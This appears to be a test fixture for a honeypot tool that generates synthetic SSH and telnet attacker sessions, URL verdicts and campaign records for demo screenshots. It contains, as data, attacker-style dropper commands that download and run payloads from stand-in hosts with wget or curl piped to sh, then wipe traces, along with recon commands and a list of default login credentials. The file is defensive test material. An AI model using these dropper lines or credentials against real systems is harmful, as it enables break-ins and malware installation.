"""A store filled with a few hundred believable sessions, for the screenshots and the browser tests.

`python tests/site/demo.py FOLDER` makes FOLDER/urltrap.db. Documentation addresses and example hosts only.
"""

from __future__ import annotations

import hashlib
import random
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import count
from pathlib import Path

from sqlalchemy import delete, insert, update

from urltrap.model.artifact import Analysis, FoundText, Unpacked
from urltrap.model.capture import Capture, Hop
from urltrap.model.event import (
    Captured,
    ClientIdentified,
    CommandEntered,
    Connected,
    Disconnected,
    DownloadAnswered,
    DownloadAsked,
    EventBase,
    FileWritten,
    FloodCounted,
    ForwardAsked,
    LoginTried,
    ProgramRun,
    TerminalFrames,
    TerminalRequested,
    Uploaded,
)
from urltrap.model.ids import new_ulid
from urltrap.model.url import parse_url
from urltrap.store import Store, open_store
from urltrap.store.intake import ingest
from urltrap.store.rollups import add_tallies, place_addresses, tally_key
from urltrap.store.rows import url_key
from urltrap.store.schema import (
    artifacts,
    jobs,
    observations,
    sessions,
    sightings,
    url_sources,
    urls,
    verdicts,
)
from urltrap.store.schema_analysis import campaign_members, campaigns
from urltrap.store.schema_intel import names
from urltrap.store.types import DAY, to_micros
from urltrap.store.upsert import insert_new, upsert

HOSTS = (
    "198.51.100.23",
    "203.0.113.77",
    "files.badhost.example",
    "cdn.update-check.example",
    "192.0.2.190:8088",
)
PLACES = (
    ("CN", 64500, "Example Backbone"), ("US", 64501, "Example Cloud LLC"), ("DE", 64502, "Beispiel Hosting GmbH"),
    ("VN", 64503, "Example Telecom"), ("BR", 64504, "Exemplo Telecomunicacoes"), ("RU", 64505, "Example Net JSC"),
    ("IN", 64506, "Example Broadband"), ("NL", 64507, "Voorbeeld Servers B.V."), ("KR", 64508, "Example Korea"),
    ("FR", 64509, "Exemple SAS"), ("ID", 64510, "PT Contoh"), ("AR", 64511, "Ejemplo S.A."),
    ("ZA", 64496, "Example ZA"),
)  # fmt: skip
PAIRS = (
    (b"root", b"123456"), (b"root", b"admin"), (b"admin", b"admin"), (b"root", b"root"), (b"ubuntu", b"ubuntu"),
    (b"root", b"Passw0rd!"), (b"pi", b"raspberry"), (b"oracle", b"oracle"), (b"root", b"1qaz@WSX"), (b"test", b""),
    (b"root", b"xc3511"), (b"support", b"support"), (b"postgres", b"postgres"), (b"git", b"git"),
)  # fmt: skip
CLIENTS = (
    (b"SSH-2.0-Go", "0a07365cc01fa9fc82608ba4019af499"), (b"SSH-2.0-libssh_0.9.6", "f555226df1963d1d3c09daf865abdc9a"),
    (b"SSH-2.0-paramiko_2.9.2", "92674389fa1e47a27ddd8d9b63ecd42b"),
    (b"SSH-2.0-OpenSSH_9.2p1", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
)  # fmt: skip
RECON = (
    b"uname -s -v -n -r -m",
    b"cat /proc/cpuinfo | grep name | wc -l; free -m | grep Mem | awk '{print $2, $3, $4}'",
    b"lscpu | grep Model; uptime; w",
    b"cd ~; chattr -ia .ssh; lockr -ia .ssh",
    b'echo -e "\\x6F\\x6B"; ls -lah $(which ls)',
    b"crontab -l; nproc; id",
)
NAMES = ("example-hosting.net", "cloud.example", "isp.example", "vps.example")
ARCHITECTURES = ("x86-64", "mips", "arm", "mipsel", "aarch64", "powerpc")


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


class Demo:
    """Makes sessions from a seed, so that two runs show the same pictures."""

    def __init__(self, store: Store, now: datetime, seed: int = 7) -> None:
        self.store = store
        self.now = now
        self.dice = random.Random(seed)
        self.numbers = count()
        self.captured: dict[str, str] = {}
        self.seen: dict[str, list[tuple[str, int, datetime, str, str, bytes, bytes, str]]] = {}
        self.sources = [f"198.51.100.{n}" for n in range(1, 90)] + [f"203.0.113.{n}" for n in range(1, 60)]

    def fill(self, sessions: int = 400) -> None:
        """Sessions over a month, more of them lately, then what the pipeline would have made of them."""
        events: list[EventBase] = []
        for _ in range(sessions):
            age = timedelta(hours=min(self.dice.expovariate(1 / 60), 24 * 29))
            events += self.session(self.now - age)
        events += self.flood()
        events += list(self.captures())
        events.sort(key=lambda event: (event.session, event.seq))
        ingest(self.store, "demo", events, (1, 1))
        self.derive()

    def session(self, at: datetime) -> list[EventBase]:
        dice, number = self.dice, next(self.numbers)
        id_ = new_ulid(int(at.timestamp() * 1000), number.to_bytes(10, "big"))
        sensor = "telnet" if dice.random() < 0.3 else "ssh"
        source = self.sources[int(len(self.sources) * dice.random() ** 2)]
        events: list[EventBase] = []
        clock = [at]

        def add(kind: type[EventBase], seconds: float = 0.4, **values: object) -> int:
            clock[0] += timedelta(seconds=seconds * (0.5 + dice.random()))
            events.append(kind(session=id_, seq=len(events), at=clock[0], **values))
            return len(events) - 1

        add(
            Connected, 0, sensor=sensor, protocol=sensor, src_ip=source, src_port=dice.randrange(30000, 60000),
            dst_ip="192.0.2.5", dst_port=2222 if sensor == "ssh" else 2323, persona="debian-12 db-replica2",
        )  # fmt: skip
        if sensor == "ssh":
            version, hassh = dice.choices(CLIENTS, (6, 3, 2, 1))[0]
            add(
                ClientIdentified,
                0.1,
                version=version,
                hassh=hassh,
                hassh_algorithms="curve25519-sha256;aes128-ctr",
            )
        what = dice.choices(
            ("probe", "brute", "login", "shell", "dropper", "upload", "forward"), (10, 28, 10, 14, 26, 6, 4)
        )[0]
        if what != "probe":
            tries = dice.randint(2, 6) if what == "brute" else dice.randint(1, 3)
            for n in range(tries):
                user, password = PAIRS[int(len(PAIRS) * dice.random() ** 1.7)]
                accepted = what != "brute" and n == tries - 1
                add(LoginTried, 0.8, method="password", username=user, password=password, accepted=accepted)
        if what in ("shell", "dropper", "upload"):
            if dice.random() < 0.5:
                self.terminal(add, dice)
            for text in dice.sample(RECON, dice.randint(1, 3)):
                add(CommandEntered, 1.2, mode="exec", text=text)
                add(
                    ProgramRun,
                    0.02,
                    argv=text.split(b";")[0].split(b"|")[0].split(),
                    path="/usr/bin/" + text.split()[0].decode(),
                    outcome="ran",
                    status=0,
                )
        if what == "dropper":
            self.drop(id_, add, clock, sensor, source)
        if what == "upload":
            add(
                Uploaded, 2, via=dice.choice(("scp", "sftp")), path=b"/tmp/.x/sshd", size=1_284_096,
                sha256=digest(f"upload{dice.randrange(3)}"),
            )  # fmt: skip
        if what == "forward":
            add(
                ForwardAsked,
                1,
                direction="direct",
                host=b"mail.victim.example",
                port=25,
                first_bytes=b"EHLO x\r\n",
            )
        seconds = (clock[0] - at).total_seconds() + 0.7
        add(
            Disconnected, 0.7, reason=dice.choice(("client", "client", "client", "timeout")),
            duration_ms=int(seconds * 1000), bytes_in=dice.randrange(900, 9000), bytes_out=dice.randrange(900, 60000),
        )  # fmt: skip
        return events

    def terminal(self, add, dice: random.Random) -> None:  # type: ignore[no-untyped-def]
        add(TerminalRequested, 0.2, term=b"xterm-256color", columns=100, rows=28)
        frames: list[tuple[int, str, bytes]] = []
        at = 3000
        prompt = b"\x1b[01;32mroot@db-replica2\x1b[00m:\x1b[01;34m~\x1b[00m# "

        def show(data: bytes) -> None:
            frames.append((at, "o", data))

        show(
            b"Linux db-replica2 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 x86_64\r\n\r\n"
            + prompt
        )
        for command, output in (
            (b"uname -a", b"Linux db-replica2 6.1.0-28-amd64 #1 SMP x86_64 GNU/Linux\r\n"),
            (
                b"cd /tmp; wget http://198.51.100.23/bins/x86 -O .x",
                b"2026-11-24 04:00:01 (1.2 MB/s) - '.x' saved\r\n",
            ),
            (b"chmod +x .x; ./.x", b""),
        ):
            for char in command:
                at += dice.randrange(40, 180)
                frames.append((at, "i", bytes([char])))
                show(bytes([char]))
            at += 300
            show(b"\r\n" + output + prompt)
        add(TerminalFrames, 0.1, frames=frames)

    def drop(self, id_: str, add, clock: list[datetime], sensor: str, source: str) -> None:  # type: ignore[no-untyped-def]
        dice = self.dice
        host = HOSTS[int(len(HOSTS) * dice.random() ** 1.5)]
        name = dice.choice(ARCHITECTURES) if dice.random() < 0.7 else dice.choice(("bins.sh", "x.sh"))
        url = f"http://{host}/bins/{name}"
        if dice.random() < 0.08:
            url = dice.choice(
                (
                    "https://ip-check.example/json",
                    "http://192.168.1.9/a.sh",
                    "http://files.badhost.example/logo.png",
                )
            )
        raw = url.encode()
        if dice.random() < 0.5:
            text = (
                b"cd /tmp || cd /var/run || cd /mnt; wget -q "
                + raw
                + b" -O .x && chmod +x .x && ./.x; rm -rf .x; history -c"
            )
        else:
            text = b"(curl -fsSL " + raw + b" || wget -qO- " + raw + b") | sh"
        seq = add(CommandEntered, 2, mode="exec", text=text)
        client = "wget" if b"wget -q " in text else "curl"
        self.seen.setdefault(url, []).append((id_, seq, clock[0], sensor, source, text, raw, client))
        add(DownloadAsked, 0.1, url=raw, client=client, argv=[client.encode(), raw], output=b".x")
        fetched = not url.startswith(("http://192.168", "http://192.0.2"))
        payload = digest(url) if fetched else None
        add(
            DownloadAnswered, 1.3, url=raw, outcome="fetched" if fetched else "connect-failed", sha256=payload,
            status=200 if fetched else None, size=94_216 if fetched else None,
        )  # fmt: skip
        if fetched:
            add(FileWritten, 0.1, path=b"/tmp/.x", size=94_216, mode=0o755, sha256=payload)
        add(ProgramRun, 0.1, argv=[b"./.x"], path="/tmp/.x", outcome="not-implemented", status=126)
        self.captured.setdefault(url, id_)

    def captures(self) -> Iterator[EventBase]:
        for n, (url, session) in enumerate(self.captured.items()):
            key = parse_url(url)
            seen = self.seen[url][0][2]
            fetched = not url.startswith(("http://192.168", "http://192.0.2"))
            redirected = key.host == "cdn.update-check.example"
            hops = [Hop(url=url, address="203.0.113.201", status=302, location=b"/v2")] if redirected else []
            hops += (
                [Hop(url=url + ("/v2" if redirected else ""), address="198.51.100.23", status=200)]
                if fetched
                else []
            )
            yield Captured(
                session=f"fetcher-{n:06d}", seq=0, at=seen + timedelta(seconds=1),
                capture=Capture(
                    url=key.text, at=seen + timedelta(seconds=1), client="wget", user_agent=b"Wget/1.21.3",
                    outcome="fetched" if fetched else "connect-failed", status=200 if fetched else None,
                    headers=[(b"Server", b"Apache/2.4.41 (Ubuntu)"), (b"Content-Type", b"application/octet-stream")],
                    hops=hops, address="198.51.100.23" if fetched else "", size=94_216 if fetched else None,
                    sha256=digest(url) if fetched else None, elapsed_ms=412, for_session=session,
                    detail="" if fetched else "connection refused",
                ),
            )  # fmt: skip

    def flood(self) -> Iterator[EventBase]:
        for n in range(3):
            at = self.now - timedelta(hours=5 * n + 1)
            yield FloodCounted(
                session=f"flood-{n}",
                seq=0,
                at=at,
                sensor="ssh",
                src_ip="203.0.113.250",
                since=at,
                count=1200 + n,
            )

    def derive(self) -> None:
        """What the later stages of the pipeline write: sightings, places, analyses, verdicts."""
        with self.store.begin() as connection:
            placed = {}
            for n, address in enumerate(self.sources):
                country, asn, network = PLACES[int(len(PLACES) * ((n * 37 % 100) / 100) ** 1.8)]
                placed[address] = {"country": country, "asn": asn, "network": network}
            place_addresses(connection, placed)
            named = [
                {"address": address, "name": f"host-{n}.{NAMES[n // 2 % len(NAMES)]}", "confirmed": n % 3 != 0,
                 "domain": NAMES[n // 2 % len(NAMES)], "at": self.now, "expires": self.now + timedelta(days=1)}
                for n, address in enumerate(sorted(self.sources)) if n % 2
            ]  # fmt: skip
            connection.execute(insert(names), named)
            for url, seen in self.seen.items():
                self._url(connection, url, seen)
                for id_, *_ in seen:
                    connection.execute(
                        update(sessions).where(sessions.c.id == id_).values(urls=sessions.c.urls + 1)
                    )
            connection.execute(delete(jobs))
            for n in range(3):
                connection.execute(
                    update(artifacts).where(artifacts.c.sha256 == digest(f"upload{n}")).values(
                        md5=digest("m")[:32], sha1=digest("s")[:40], mime="application/x-executable", kind="elf",
                        description="ELF 64-bit LSB executable, x86-64, statically linked, stripped",
                        architecture="x86-64",
                        analysis=analysis(digest(f"upload{n}"), "elf", "x86-64"),
                    )
                )  # fmt: skip

    def join(self, connection, key, host, payload, first, last) -> str:  # type: ignore[no-untyped-def]
        """One campaign for each host's URLs."""
        name = "c" + digest(host)[:12]
        for kind, value in (("url", key), ("host", host), *([("payload", payload)] if payload else [])):
            row = {"kind": kind, "value_sha256": digest(value), "value": value, "campaign": name, "at": first}
            insert_new(connection, campaign_members, [{**row, "why": f"lies on {host}"}])
        upsert(
            connection,
            campaigns,
            [
                {
                    "id": name,
                    "first_seen": first,
                    "last_seen": last,
                    "merged_into": "",
                    "urls": 1,
                    "payloads": 1 if payload else 0,
                }
            ],
            add=["urls", "payloads"],
            lowest=["first_seen"],
            highest=["last_seen"],
        )
        return name

    def _url(self, connection, url, seen) -> None:  # type: ignore[no-untyped-def]
        parsed = parse_url(url)
        key = url_key(parsed.text)
        sources = len({source for _, _, _, _, source, *_ in seen})
        first, last = min(row[2] for row in seen), max(row[2] for row in seen)
        fetched = url in self.captured and not url.startswith(("http://192.168", "http://192.0.2"))
        held = url.startswith("http://192.168")
        name = url.rsplit("/", 1)[1]
        kind = (
            "script"
            if name.endswith(".sh")
            else "html"
            if name == "json"
            else "image"
            if "png" in name
            else "elf"
        )
        benign = "ip-check" in url
        listed = fetched and parsed.host == "198.51.100.23"
        if benign:
            verdict, confidence = "benign-context", 90
        elif held or kind == "image":
            verdict, confidence = "unknown", 5
        elif listed:
            verdict, confidence = "malicious-confirmed", 100
        elif fetched:
            verdict, confidence = "malicious-observed", 82
        else:
            verdict, confidence = "suspicious", 38
        malicious = verdict.startswith("malicious")
        publish_after = (
            last if malicious and sources > 1 else self.now + timedelta(hours=3) if malicious else None
        )
        flags = ["private"] if held else []
        campaign = (
            ""
            if benign or held
            else self.join(connection, key, parsed.host, digest(url) if fetched else "", first, last)
        )
        connection.execute(
            insert(urls).values(
                key=key, url=parsed.text, scheme=parsed.scheme, host=parsed.host, port=parsed.port, first_seen=first,
                last_seen=last, sightings=len(seen), sources=sources, depth=0, held=held, flags=flags,
                outcome="fetched" if fetched else "connect-failed", status=200 if fetched else None,
                captured_at=first, sha256=digest(url) if fetched else None, kind=kind if fetched else "",
                verdict=verdict, confidence=confidence, publish_after=publish_after,
                published_at=last if publish_after and publish_after <= self.now else None,
                campaign=campaign,
                **axes_of(parsed.scheme, parsed.host, kind if fetched else "", name, malicious, held),
            )
        )  # fmt: skip
        for id_, seq, seen_at, sensor, source, text, raw, client in seen:
            start = text.index(raw)
            connection.execute(
                insert(sightings).values(
                    session=id_, seq=seq, n=0, url_key=key, at=seen_at, src_ip=source, sensor=sensor, raw=raw,
                    span_start=start, span_end=start + len(raw), method="word", chain=[], client=client, confidence=95,
                    flags=flags,
                )
            )  # fmt: skip
            insert_new(connection, url_sources, [{"url_key": key, "address": source}])
            day = to_micros(seen_at) // DAY * DAY
            for what, value in (("url", key), ("host", parsed.host)):
                add_tallies(connection, {(day, what, tally_key(value.encode())): (value.encode(), b"", 1)})
        reasons = [("listed.url", "urlhaus lists this URL (elf, mirai)", 90)] if listed else []
        if kind in ("elf", "script") and fetched:
            reasons.append(
                (f"payload.{kind}", f"it serves {'a script' if kind == 'script' else 'an ELF program'}", 45)
            )
            reasons.append(("run", "what came was run or made executable there", 25))
        if sources > 1:
            reasons.append(("sources", f"{sources} addresses came with it", 12))
        if benign:
            reasons.append(("context.ip-check", "it tells its caller's address (list contexts)", -60))
        connection.execute(
            insert(verdicts).values(
                url_key=key, verdict=verdict, confidence=confidence, at=last, rules="1", publish_after=publish_after,
                reasons=[{"code": code, "text": text, "weight": weight} for code, text, weight in reasons],
            )
        )  # fmt: skip
        connection.execute(
            insert(observations).values(
                provider="urlhaus", subject_kind="url", subject_sha256=key, subject=parsed.text, at=last,
                result="listed" if listed else "not-listed", detail="this URL" if listed else "",
                tags=["elf", "mirai", "32-bit"] if listed else [], reference="",
            )
        )  # fmt: skip
        if fetched:
            architecture = name if kind == "elf" else ""
            connection.execute(
                update(artifacts).where(artifacts.c.sha256 == digest(url)).values(
                    md5=digest("m" + url)[:32], sha1=digest("s" + url)[:40], mime="application/x-executable",
                    description=f"ELF 32-bit executable, {architecture}, statically linked" if kind == "elf" else
                    "Bourne-Again shell script, ASCII text executable",
                    kind=kind, architecture=architecture, analysis=analysis(digest(url), kind, architecture),
                )
            )  # fmt: skip


def axes_of(scheme: str, host: str, kind: str, name: str, malicious: bool, held: bool) -> dict[str, str]:
    """The six classes and the family, as rules would conclude them."""
    is_address = host.replace(".", "").isdigit()
    return {
        "action": "ddos-botnet" if malicious else "ip-check" if host.startswith("ip-check") else "unknown",
        "role": {"elf": "payload", "script": "dropper-script"}.get(
            kind, "target-only" if held else "unknown"
        ),
        "delivery": f"{scheme} get",
        "target": f"linux {name}" if kind == "elf" else "linux" if kind == "script" else "",
        "hosting": "raw-ip" if is_address else "disposable-domain" if malicious else "site",
        "lifecycle": "online" if kind else "never-alive",
        "family": "elf.mirai" if kind == "elf" and malicious else "",
    }


PACKED = Analysis(
    sha256="", kind="elf", packer="upx-broken",
    found=[FoundText(text=b"tcp://203.0.113.9:23", kind="callback", how="upx+elf")],
    unpacked=[
        Unpacked(packer="upx", sha256="5" * 64, size=81_920, kind="elf", architecture="mips", repaired=["magic"]),
        Unpacked(packer="upx", problem="too-large"),
    ],
).model_dump(mode="json", include={"packer", "found", "unpacked"})  # fmt: skip


def analysis(sha256: str, kind: str, architecture: str) -> dict[str, object]:
    return {
        "sha256": sha256, "mime": "application/x-executable", "kind": kind, "architecture": architecture,
        "description": f"ELF executable, {architecture}, statically linked, stripped" if kind == "elf" else kind,
        "bits": 32 if kind == "elf" else None, "endian": "little" if kind == "elf" else "",
        **(PACKED if kind == "elf" else {}),
    }  # fmt: skip


def fill(path: Path, now: datetime, sessions: int = 400) -> Store:
    """A filled store in a new file."""
    store = open_store(str(path))
    Demo(store, now).fill(sessions)
    return store


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    fill(folder / "urltrap.db", datetime.now(UTC)).close()
    print(folder / "urltrap.db")
